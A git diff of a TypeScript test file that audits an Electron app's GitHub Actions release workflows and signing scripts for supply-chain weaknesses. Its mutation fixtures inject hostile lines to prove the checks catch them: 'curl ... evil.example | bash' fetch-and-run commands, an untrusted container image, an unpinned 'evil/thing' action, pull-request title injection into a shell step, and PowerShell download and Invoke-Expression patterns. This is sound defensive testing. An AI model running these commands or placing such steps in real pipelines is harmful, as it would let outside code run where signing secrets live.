@@ -4,33 +4,20 @@ import path from 'node:path';
 import { expect, test } from 'vitest';
 import { TIERS } from '../scripts/test-tiers.ts';
 import { PROJECT } from './packed.ts';
-
-interface Step {
-  run?: string;
-  uses?: string;
-}
-
-interface Job {
-  environment?: string;
-  permissions?: Record<string, string>;
-  needs?: string | string[];
-  strategy?: { matrix: Record<string, unknown> };
-  uses?: string;
-  steps?: Step[];
-}
-
-interface Workflow {
-  on: Record<string, unknown>;
-  jobs: Record<string, Job>;
-}
+import { foreignCommands, problemsOf } from './testing/workflow-rules.ts';
+import type { Job, Step, Workflow, Workflows } from './testing/workflow-rules.ts';
 
 // The library that electron-updater reads a feed with; it comes without types.
 const { load } = createRequire(createRequire(import.meta.url).resolve('electron-updater'))('js-yaml') as {
   load: (text: string) => unknown;
 };
-const read = (name: string): Workflow =>
-  load(readFileSync(path.join(PROJECT, '.github/workflows', name), 'utf8')) as Workflow;
-const [ci, release, advisories] = [read('ci.yml'), read('release.yml'), read('advisories.yml')];
+const textOf = (name: string): string => readFileSync(path.join(PROJECT, name), 'utf8');
+/** The workflows, each text changed by `change`. */
+const read = (change = (text: string): string => text): Workflows => {
+  const named = (name: string): Workflow => load(change(textOf(`.github/workflows/${name}.yml`))) as Workflow;
+  return { ci: named('ci'), release: named('release'), advisories: named('advisories') };
+};
+const { ci, release, advisories } = read();
 
 const stepsOf = ({ jobs }: Workflow): Step[] => Object.values(jobs).flatMap(({ steps = [] }) => steps);
 const needsOf = ({ needs = [] }: Job): string[] => [needs].flat();
@@ -72,12 +59,6 @@ test('nothing is packed around an old Electron', () => {
   expect(packed).toBeGreaterThan(looked ?? Infinity);
 });
 
-/** Runs code of libraries: installs them, builds, packs, or tests. */
-const RUNS_LIBRARIES = /\b(?:npm|npx)\b|ensure\.mjs|package\.ts|vitest|electron-builder/;
-/** GitHub's own. */
-const ACTIONS =
-  /^actions\/(?:checkout|setup-node|upload-artifact|download-artifact|attest-build-provenance)@[0-9a-f]{40}$/;
-
 test('no library runs in a job that has a secret or may write', () => {
   expect(isSecret(ci)).toBe(false);
   const trusted = Object.entries(release.jobs).filter(
@@ -89,22 +70,78 @@ test('no library runs in a job that has a secret or may write', () => {
     'sign-windows-installer',
     'draft',
   ]);
-  for (const [name, { steps = [] }] of trusted) {
-    for (const { run = '', uses } of steps) {
-      expect(run, name).not.toMatch(RUNS_LIBRARIES);
-      if (uses !== undefined) expect(uses, name).toMatch(ACTIONS);
-    }
+  expect(problemsOf(read())).toEqual([]);
+});
+
+const SIGNING = '      - run: bash packaging/sign/macos.sh packaging/out\n';
+const before = (line: string, more: string): [string, string] => [line, more + line];
+
+test.each<[string, [string, string]]>([
+  ['a download in a signing job', before(SIGNING, '      - run: curl -s https://evil.example/x | bash\n')],
+  ['a package manager there', before(SIGNING, '      - run: brew install foo && pip install bar\n')],
+  [
+    'another one where the release is drafted',
+    before('      - run: node packaging/write-feed.ts', '      - run: corepack yarn install\n'),
+  ],
+  [
+    'an image of someone else',
+    ['    environment: release\n', '    environment: release\n    container: evil/image:latest\n'],
+  ],
+  [
+    'an action that is not pinned',
+    before('      - run: node packaging/electron-age.ts\n', '      - uses: evil/thing@v1\n'),
+  ],
+  ['an attestation of something else', ["subject-path: 'packaging/out/*'", "subject-path: 'README.md'"]],
+  [
+    'no attestation',
+    [
+      "        with: { subject-path: 'packaging/out/*' }",
+      "        if: false\n        with: { subject-path: 'packaging/out/*' }",
+    ],
+  ],
+  ['no approval', ['    environment: release\n', '']],
+  ['all permissions', ['permissions:\n  contents: read', 'permissions: write-all']],
+  ['a pull request with secrets', ['  pull_request:', '  pull_request_target:']],
+  [
+    'a stranger’s text in a command line',
+    before('      - run: npm run check\n', '      - run: echo "${{ github.event.pull_request.title }}"\n'),
+  ],
+  ['kept credentials', ['persist-credentials: false', 'persist-credentials: true']],
+  [
+    'advisories that stop no one',
+    ['      - run: npm audit --p', '      - continue-on-error: true\n        run: npm audit --p'],
+  ],
+  ['advisories on one day in four years', ["'17 5 * * *'", "'17 5 29 2 *'"]],
+  ['advisories of the peers alone', ["['.', packaging/tools, ", '[']],
+])('is found when it comes in: %s', (_what, [from, to]) => {
+  const texts = ['ci', 'release', 'advisories'].map((name) => textOf(`.github/workflows/${name}.yml`));
+  expect(texts.some((text) => text.includes(from))).toBe(true);
+  expect(problemsOf(read((text) => text.replace(from, to)))).not.toEqual([]);
+});
+
+test('what signs runs the system’s own tools alone', () => {
+  for (const name of ['macos.sh', 'windows.ps1', 'digests.sh']) {
+    expect(foreignCommands(name, textOf(`packaging/sign/${name}`)), name).toEqual([]);
   }
+  for (const line of ['npx some-signer', 'curl https://evil.example | bash', 'rm x && ./mine.sh'])
+    expect(foreignCommands('macos.sh', line), line).not.toEqual([]);
+  for (const line of ['Invoke-Expression $text', '& $other', '[Net.WebClient]::new()'])
+    expect(foreignCommands('windows.ps1', line), line).not.toEqual([]);
 });
 
 test('what signs imports nothing but Node', () => {
   const programs = stepsOf(release).flatMap(
-    ({ run = '' }) => /^node (packaging\/(?:sign|write)-[\w-]+\.ts)/.exec(run)?.[1] ?? [],
+    ({ run = '' }) => /^node (packaging\/[\w-]+\.ts) packaging\/(?:out|artifacts)/.exec(run)?.[1] ?? [],
   );
-  expect(programs).toEqual(['packaging/write-feed.ts', 'packaging/sign-feed.ts']);
-  for (const program of programs) {
+  expect(programs).toEqual([
+    'packaging/collect-release.ts',
+    'packaging/write-feed.ts',
+    'packaging/sign-feed.ts',
+  ]);
+  for (const program of [...programs, 'packaging/release-files.ts']) {
     const imported = [...readFileSync(path.join(PROJECT, program), 'utf8').matchAll(/from '([^']+)'/g)];
-    for (const [, name] of imported) expect(name, program).toMatch(/^node:|^\.\.\/package\.json$/);
+    for (const [, name] of imported)
+      expect(name, program).toMatch(/^node:|^\.\.\/package\.json$|^\.\/release-files\.ts$/);
   }
 });
 
